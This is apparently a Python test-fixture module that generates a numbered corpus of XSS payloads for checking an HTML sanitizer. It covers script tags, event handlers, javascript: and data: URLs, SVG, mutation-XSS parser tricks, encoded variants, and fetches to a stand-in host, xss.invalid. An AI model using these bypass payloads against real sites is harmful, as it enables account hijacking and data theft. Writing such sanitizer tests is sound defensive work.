"""A corpus of XSS payloads for the mirror: each one, if it ever ran, would say so.

`FLAG` in a payload becomes `top.__xss_<n>=1` (a page-level flag the test reads back), and
`LEAK` becomes `http://xss.invalid/<n>` (a request to another origin, which the test
records). Payloads that can only fire through a dialog use `alert(<n>)`. Entity-encoded
variants are encoded after the substitution, so they still carry their number.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "gpj.exe" reads as "exe.jpg"


def _entities(text: str, hexadecimal: bool = False) -> str:
    return "".join(f"&#x{ord(c):x};" if hexadecimal else f"&#{ord(c)};" for c in text)


# (name, template). A template may be a callable of (flag, leak) for encoded variants.
_TEMPLATES: list[tuple[str, str]] = [
    # Script elements
    ("script", "<script>FLAG</script>"),
    ("script mixed case", "<ScRiPt>FLAG</sCrIpT>"),
    ("script src remote", '<script src="LEAK.js"></script>'),
    ("script split", "<scr<script>ipt>FLAG</scr</script>ipt>"),
    ("script in attribute breakout", '"><script>FLAG</script>'),
    ("script after title close", "</title><script>FLAG</script>"),
    ("script after textarea close", "</textarea><script>FLAG</script>"),
    ("script in CDATA", "<![CDATA[<script>FLAG</script>]]>"),
    # Event handlers
    ("img onerror", "<img src=x onerror=FLAG>"),
    ("img onerror quoted", '<img src="x" onerror="FLAG">'),
    ("img onerror mixed case", "<IMG SRC=x OnErRoR=FLAG>"),
    ("img onerror unclosed", "<img src=x onerror=FLAG//"),
    ("img onerror slash separator", "<img/src=x/onerror=FLAG>"),
    ("img breakout single quote", "'><img src=x onerror=FLAG>"),
    ("img malformed quotes", '<img """><script>FLAG</script>">'),
    ("body onload", "<body onload=FLAG>"),
    ("body onpageshow", "<body onpageshow=FLAG>"),
    ("div onmouseover", '<div onmouseover="FLAG">hover me</div>'),
    ("p onclick", "<p onclick=FLAG>click me</p>"),
    ("a onfocus tabindex", '<a href="#" onfocus=FLAG tabindex=1>focus me</a>'),
    ("input autofocus", "<input onfocus=FLAG autofocus>"),
    ("details ontoggle", "<details open ontoggle=FLAG><summary>x</summary></details>"),
    ("marquee onstart", "<marquee onstart=FLAG>scroll</marquee>"),
    ("video source onerror", "<video><source onerror=FLAG></video>"),
    ("audio onerror", "<audio src=x onerror=FLAG></audio>"),
    ("input image onerror", '<input type="image" src=x onerror=FLAG>'),
    ("animation start", '<div style="animation:spin 1s" onanimationstart=FLAG>spin</div>'),
    ("table background", '<table background="javascript:FLAG"><tr><td>t</td></tr></table>'),
    # URLs with a script scheme
    ("a javascript", '<a href="javascript:FLAG">link</a>'),
    ("a javascript mixed case", '<a href="JaVaScRiPt:FLAG">link</a>'),
    ("a javascript leading space", '<a href=" javascript:FLAG">link</a>'),
    ("a javascript tab inside", '<a href="java&#x09;script:FLAG">link</a>'),
    ("a javascript named colon", '<a href="javascript&colon;FLAG">link</a>'),
    ("a vbscript", '<a href="vbscript:msgbox(FLAG)">link</a>'),
    ("a data html", "<a href=\"data:text/html,<script>fetch('LEAK')</script>\">data</a>"),
    ("img javascript src", '<img src="javascript:FLAG">'),
    ("math href", '<math href="javascript:FLAG">click</math>'),
    ("a ping", '<a href="#p" ping="LEAK">ping</a>'),
    # SVG
    ("svg onload", "<svg onload=FLAG>"),
    ("svg script", "<svg><script>FLAG</script></svg>"),
    ("svg xlink href", '<svg><a xlink:href="javascript:FLAG"><text y="20">x</text></a></svg>'),
    ("svg animate onbegin", "<svg><animate onbegin=FLAG attributeName=x dur=1s /></svg>"),
    ("svg set onload", '<svg><set attributeName="onload" to="FLAG" /></svg>'),
    ("svg image remote", '<svg><image href="LEAK.svg" /></svg>'),
    # Frames, objects, embeds
    ("iframe javascript", '<iframe src="javascript:FLAG"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;FLAG&lt;/script&gt;"></iframe>'),
    ("iframe data", "<iframe src=\"data:text/html,<script>fetch('LEAK')</script>\"></iframe>"),
    ("iframe remote", '<iframe src="LEAK"></iframe>'),
    ("object javascript", '<object data="javascript:FLAG"></object>'),
    ("object data html", "<object data=\"data:text/html,<script>fetch('LEAK')</script>\">"),
    ("embed javascript", '<embed src="javascript:FLAG">'),
    (
        "embed svg data",
        '<embed src="data:image/svg+xml,<svg onload=FLAG xmlns=%22http://www.w3.org/2000/svg%22/>">',
    ),
    # Head elements in the body
    ("meta refresh javascript", '<meta http-equiv="refresh" content="0;url=javascript:FLAG">'),
    ("meta refresh remote", '<meta http-equiv="refresh" content="0;url=LEAK">'),
    ("base href", '<base href="LEAK/">'),
    ("link stylesheet", '<link rel="stylesheet" href="LEAK.css">'),
    # Forms
    ("form action", '<form action="javascript:FLAG"><button>send</button></form>'),
    ("button formaction", '<form><button formaction="javascript:FLAG">send</button></form>'),
    ("isindex", '<isindex action="javascript:FLAG" type="image">'),
    # CSS
    ("style url javascript", '<div style="background:url(javascript:FLAG)">css</div>'),
    ("style expression", '<div style="width:expression(FLAG)">css</div>'),
    ("style remote image", "<div style=\"background-image:url('LEAK.png')\">css</div>"),
    ("style import", "<style>@import 'LEAK.css';</style>"),
    ("style element url", '<style>body{background:url("LEAK.png")}</style>'),
    # Comments and parser confusion
    ("broken comment", '<!--<img src="--><img src=x onerror=FLAG//">'),
    ("comment bang close", "<!-- --!><script>FLAG</script> -->"),
    ("noscript mxss", '<noscript><p title="</noscript><img src=x onerror=FLAG>">'),
    (
        "template script",
        ("<template><script>FLAG</script></template><template><img src=x onerror=FLAG></template>"),
    ),
    ("svg style mxss", '<svg></p><style><a id="</style><img src=1 onerror=FLAG>">'),
    ("math mglyph mxss", "<math><mtext><table><mglyph><style><img src=x onerror=FLAG>"),
    (
        "form math mxss",
        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=FLAG>"),
    ),
    ("title in body", "<title><img src=x onerror=FLAG></title>"),
    ("xmp breakout", '<xmp><p title="</xmp><img src=x onerror=FLAG>">'),
    # Remote resources the sanitizer must not leave for the reader's browser
    ("img remote", '<img src="LEAK.png" alt="remote">'),
    ("img srcset remote", '<img src="x" srcset="LEAK.png 1x">'),
    ("video poster remote", '<video poster="LEAK.png"></video>'),
    # Quotes: the site rebuilds their title from data-author and links data-post-id
    (
        "quote name",
        (
            '<blockquote class="fm-quote" data-author="&quot;&gt;&lt;img src=x onerror=FLAG&gt;"'
            ' data-post-id="9001">q</blockquote>'
        ),
    ),
    (
        "quote source",
        (
            '<blockquote class="fm-quote" data-author="x"'
            ' data-post-id="9001&quot; onmouseover=&quot;FLAG">q</blockquote>'
        ),
    ),
    # Right-to-left override hiding a script in what looks like an image name
    ("rtl override", f'<a href="LEAK/{RLO}gpj.exe">photo{RLO}gpj.exe</a><script>FLAG</script>'),
    ("alert", "<img src=x onerror=alert(NUMBER)><script>alert(NUMBER)</script>"),
]

_ENCODED: list[tuple[str, str]] = [
    ("img onerror decimal entities", '<img src=x onerror="{flag:dec}">'),
    ("a javascript decimal entities", '<a href="{js:dec}">link</a>'),
    ("a javascript hex entities", '<a href="{js:hex}">link</a>'),
    ("a data base64", '<a href="data:text/html;base64,{leak:b64}">link</a>'),
    ("iframe data base64", '<iframe src="data:text/html;base64,{leak:b64}"></iframe>'),
]


@dataclass(frozen=True)
class Payload:
    number: int
    name: str
    html: str

    @property
    def flag(self) -> str:
        return f"__xss_{self.number}"


def _fill(template: str, number: int) -> str:
    flag = f"top.__xss_{number}=1"
    leak = f"http://xss.invalid/{number}"
    script = f"<script>fetch('{leak}')</script>"
    return (
        template.replace("{flag:dec}", _entities(flag))
        .replace("{js:dec}", _entities(f"javascript:{flag}"))
        .replace("{js:hex}", _entities(f"javascript:{flag}", hexadecimal=True))
        .replace("{leak:b64}", base64.b64encode(script.encode()).decode())
        .replace("FLAG", flag)
        .replace("LEAK", leak)
        .replace("NUMBER", str(number))
    )


PAYLOADS: list[Payload] = [
    Payload(number, name, _fill(template, number))
    for number, (name, template) in enumerate(_TEMPLATES + _ENCODED, start=1)
]
